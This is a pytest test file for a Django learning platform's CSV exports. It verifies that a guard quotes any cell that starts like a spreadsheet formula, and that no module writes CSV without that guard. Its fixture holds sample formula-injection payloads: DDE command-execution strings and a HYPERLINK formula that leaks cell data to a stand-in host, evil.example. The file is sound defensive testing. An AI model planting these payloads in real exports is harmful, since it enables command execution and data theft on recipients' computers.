"""Spreadsheet formula injection: every CSV the platform writes goes through kernel.csvsafe, so a
name, a title or an answer that starts like a formula opens as text in Excel or LibreOffice."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts import services as account_services
from accounts.models import AuditEntry, Consent
from analytics import services as analytics_services
from analytics.models import ExportJob
from courses.models import Enrollment, LessonProgress
from kernel.csvsafe import FORMULA_STARTS, csv_cell
from privacy import services as privacy_services
from privacy.models import DataExport
from tests.analytics.helpers import course_with_instructor, learner, make_assignment, submit
from tests.factories import LessonFactory, ModuleFactory, OrganizationFactory, UserFactory
from tests.twofactor import login_with_2fa

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "name": "=cmd|' /C calc'!A0",
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "\uff1d1+1",
}


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", list(HOSTILE.values()))
def test_a_cell_that_starts_like_a_formula_is_prefixed_with_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Amina Alaoui", "", "'=already quoted", "a=b", " x", 7, -3, None, 1.5])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_guard_covers_the_owasp_list_and_full_width_signs():
    assert set("=+-@\t\r") <= set(FORMULA_STARTS)
    assert set("\uff1d\uff0b\uff0d\uff20") <= set(FORMULA_STARTS)


def test_no_module_of_the_platform_writes_csv_around_the_guard():
    """A new CSV writer must use kernel.csvsafe (safe_writer / safe_dict_writer), not the csv module
    directly: the guard cannot be forgotten. The OneRoster sample-package generator is exempt: it
    writes the platform's *input* (test packages, some invalid on purpose), byte for byte."""
    inputs = {ROOT / "scripts/oneroster_packages.py"}
    skip = {".venv", "node_modules", "tests", "var", "bench", "test-artifacts", ".git"}
    sources = [p for top in ROOT.iterdir() if top.is_dir() and top.name not in skip for p in top.rglob("*.py")]
    offenders = [
        str(p.relative_to(ROOT))
        for p in sources
        if p != ROOT / "kernel/csvsafe.py"
        and p not in inputs
        and re.search(r"\bcsv\.(writer|DictWriter)\s*\(", p.read_text(encoding="utf-8"))
    ]
    assert len(sources) > 50 and offenders == []


# --- Every CSV writer, fed hostile text, writes no formula ------------------------------------


def _privacy_export(db_world) -> dict[str, str]:
    """The privacy export's CSV files (built by the export service the Celery task calls)."""
    user = db_world["learner"]
    export = DataExport.objects.create(user=user)
    privacy_services.export_build(export_id=export.pk)
    export.refresh_from_db()
    with zipfile.ZipFile(privacy_services.export_file(export=export)) as zf:
        return {n: zf.read(n).decode("utf-8-sig") for n in zf.namelist() if n.endswith(".csv")}


def _gradebook_download(db_world, client) -> dict[str, str]:
    login_with_2fa(client, db_world["teacher"])
    response = client.get(reverse("analytics:export", args=[db_world["course"].code, "csv"]))
    assert response.status_code == 200
    return {"gradebook.csv": b"".join(response.streaming_content).decode("utf-8-sig")}


def _gradebook_prepared(db_world, client, settings, tmp_path) -> dict[str, str]:
    settings.ANALYTICS_EXPORT_DIR = str(tmp_path)
    job = ExportJob.objects.create(course=db_world["course"], requested_by=db_world["teacher"], format="csv")
    analytics_services.export_job_run(job_id=job.pk)
    return {"gradebook-job.csv": analytics_services.export_path(job).read_text(encoding="utf-8-sig")}


WRITERS = {"privacy export": _privacy_export, "gradebook download": _gradebook_download,
           "prepared gradebook export": _gradebook_prepared}  # fmt: skip


@pytest.fixture
def db_world(db):
    org = OrganizationFactory(name=HOSTILE["at"])
    course, teacher = course_with_instructor(title=HOSTILE["title"])
    user = learner(course, org=org, external_id=HOSTILE["minus"], full_name=HOSTILE["name"])
    assignment = make_assignment(course, title=HOSTILE["plus"])
    submit(user, assignment, score=5, answer={"text": HOSTILE["name"]})
    lesson = LessonFactory(module=ModuleFactory(course=course), title=HOSTILE["title"])
    LessonProgress.objects.create(user=user, lesson=lesson, completed_at=timezone.now())
    Consent.objects.create(user=user, notice_version=1, language=HOSTILE["tab"][:8])
    reader = UserFactory(full_name=HOSTILE["cr"])
    account_services.audit_record(actor=reader, action=AuditEntry.Action.PROFILE_VIEW, subject_user=user)
    Enrollment.objects.filter(user=user).update(status="active")
    return {"learner": user, "course": course, "teacher": teacher}


@pytest.mark.parametrize("writer", list(WRITERS))
def test_every_csv_writer_neutralises_formulas(writer, db_world, client, settings, tmp_path):
    build = WRITERS[writer]
    args = {"privacy export": (db_world,), "gradebook download": (db_world, client)}.get(
        writer, (db_world, client, settings, tmp_path)
    )
    files = build(*args)
    assert files
    cells = {name: [c for row in csv.reader(io.StringIO(text)) for c in row] for name, text in files.items()}
    for name, text in files.items():
        assert _formula_cells(text) == [], name
    every_cell = [c for file_cells in cells.values() for c in file_cells]
    # The hostile values are there, made inert (not dropped): the test cannot pass on empty files.
    assert "'" + HOSTILE["name"] in every_cell
    assert any(c.startswith("'" + HOSTILE["plus"]) for c in every_cell)
    if writer == "privacy export":
        assert "'" + HOSTILE["name"] in cells["profile.csv"]
        assert "'" + HOSTILE["title"] in cells["lesson_progress.csv"]
        assert "'" + HOSTILE["title"] in cells["enrollments.csv"]
        assert "'" + HOSTILE["cr"] in cells["audit.csv"]
        assert "'" + HOSTILE["tab"] in cells["consents.csv"]
